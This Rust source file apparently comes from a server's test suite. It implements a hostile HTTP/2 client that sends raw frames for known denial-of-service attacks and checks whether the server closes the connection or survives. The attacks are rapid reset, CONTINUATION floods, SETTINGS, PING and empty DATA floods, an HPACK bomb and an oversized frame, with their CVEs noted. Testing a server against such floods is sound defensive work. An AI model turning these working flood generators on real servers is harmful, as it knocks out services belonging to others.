//! A peer that speaks HTTP/2 in raw frames (RFC 9113) and means no good.

use std::io::{Read, Write};
use std::net::{Shutdown, SocketAddr};
use std::time::Duration;

use super::connect;

/// A flood: what is sent first, and again and again, with the number of the round.
pub(super) struct Attack {
    pub(super) name: &'static str,
    /// Whether the server must end the connection, and not merely bear it.
    pub(super) must_close: bool,
    first: fn(SocketAddr) -> Vec<u8>,
    again: fn(SocketAddr, u32) -> Vec<u8>,
    rounds: u32,
    /// Whether the peer reads what the server says.
    reads: bool,
}

pub(super) const ATTACKS: &[Attack] = &[
    // CVE-2023-44487.
    Attack {
        name: "rapid reset",
        must_close: false,
        first: |_| Vec::new(),
        again: |address, n| {
            let stream = 2 * n + 1;
            [
                frame(HEADERS, END_STREAM | END_HEADERS, stream, &request(address, GET)),
                frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()),
            ]
            .concat()
        },
        rounds: 50_000,
        reads: true,
    },
    // CVE-2024-27316 and its kin.
    Attack {
        name: "CONTINUATION flood",
        must_close: true,
        first: |address| frame(HEADERS, END_STREAM, 1, &request(address, GET)),
        again: |_, n| {
            frame(
                CONTINUATION,
                0,
                1,
                &literal(&format!("x-{n}"), &"y".repeat(100)).repeat(100),
            )
        },
        rounds: 5_000,
        reads: true,
    },
    Attack {
        name: "empty CONTINUATION flood",
        must_close: true,
        first: |address| frame(HEADERS, END_STREAM, 1, &request(address, GET)),
        again: |_, _| frame(CONTINUATION, 0, 1, &[]),
        rounds: 500_000,
        reads: true,
    },
    // CVE-2019-9515: every one wants an answer that nobody reads.
    Attack {
        name: "SETTINGS flood",
        must_close: false,
        first: |_| Vec::new(),
        again: |_, _| frame(SETTINGS, 0, 0, &[]),
        rounds: 300_000,
        reads: false,
    },
    // CVE-2019-9512.
    Attack {
        name: "PING flood",
        must_close: false,
        first: |_| Vec::new(),
        again: |_, n| frame(PING, 0, 0, &u64::from(n).to_be_bytes()),
        rounds: 300_000,
        reads: false,
    },
    // CVE-2019-9518.
    Attack {
        name: "empty DATA flood",
        must_close: false,
        first: |address| frame(HEADERS, END_HEADERS, 1, &request(address, POST)),
        again: |_, _| frame(DATA, 0, 1, &[]),
        rounds: 300_000,
        reads: true,
    },
    // One large entry of the table, named again and again: 4 KiB of frame are 16 MiB of header list.
    Attack {
        name: "HPACK bomb",
        must_close: false,
        first: |_| Vec::new(),
        again: |address, n| {
            let entry = [&[0x40][..], &string("x"), &string(&"y".repeat(4000))].concat();
            let bomb = [request(address, GET), entry, vec![0xbe; 4000]].concat();
            frame(HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, &bomb)
        },
        rounds: 500,
        reads: true,
    },
    Attack {
        name: "a frame over the size that was agreed",
        must_close: true,
        first: |_| Vec::new(),
        again: |address, _| {
            frame(
                HEADERS,
                END_STREAM | END_HEADERS,
                1,
                &[request(address, GET), vec![0; 1 << 20]].concat(),
            )
        },
        rounds: 1,
        reads: true,
    },
];

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// Of HPACK's static table (RFC 7541, appendix A).
const GET: u8 = 0x82;
const POST: u8 = 0x83;

/// Whether the server ended the connection before the peer did.
pub(super) fn run(attack: &Attack, address: SocketAddr) -> bool {
    let mut stream = connect(address);
    // A server that no longer reads has stopped the flood as well.
    stream
        .set_write_timeout(Some(Duration::from_secs(5)))
        .expect("a timeout");
    let mut reader = stream.try_clone().expect("the other half");
    let reads = attack.reads;
    let read = std::thread::spawn(move || {
        let mut bytes = [0; 16 << 10];
        if !reads {
            return;
        }
        // The end, or a reset.
        while matches!(reader.read(&mut bytes), Ok(1..)) {}
    });
    let begin = [
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(),
        frame(SETTINGS, 0, 0, &[]),
        (attack.first)(address),
    ];
    let mut closed = stream.write_all(&begin.concat()).is_err();
    let mut round = 0;
    while round < attack.rounds && !closed {
        // Many at once, as a flood comes.
        let mut bytes = Vec::new();
        while bytes.len() < 16 << 10 && round < attack.rounds {
            bytes.extend((attack.again)(address, round));
            round += 1;
        }
        closed = stream.write_all(&bytes).is_err() || (attack.reads && read.is_finished());
    }
    if !closed && attack.must_close {
        // What was sent last is still on its way.
        let ended = crate::server::within(super::CLOSED_WITHIN, || read.is_finished().then_some(()));
        closed = ended.is_some();
    }
    drop(stream.shutdown(Shutdown::Both));
    read.join().expect("the reader");
    closed
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a short frame").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A field that enters no table.
fn literal(name: &str, value: &str) -> Vec<u8> {
    [vec![0], string(name), string(value)].concat()
}

/// A string without Huffman coding (RFC 7541, 5.2), its length as an integer with a prefix of 7 bits.
fn string(text: &str) -> Vec<u8> {
    let mut out = Vec::new();
    let mut left = text.len();
    if left < 127 {
        out.push(u8::try_from(left).expect("short"));
    } else {
        out.push(127);
        left -= 127;
        while left >= 128 {
            out.push(u8::try_from(left % 128 + 128).expect("a byte"));
            left /= 128;
        }
        out.push(u8::try_from(left).expect("a byte"));
    }
    out.extend_from_slice(text.as_bytes());
    out
}

fn request(address: SocketAddr, method: u8) -> Vec<u8> {
    // `:scheme` http, `:path` as below, `:authority`.
    let path = [&[0x04][..], &string("/hooks/hok_1")].concat();
    let authority = [&[0x01][..], &string(&address.to_string())].concat();
    [vec![method, 0x86], path, authority].concat()
}
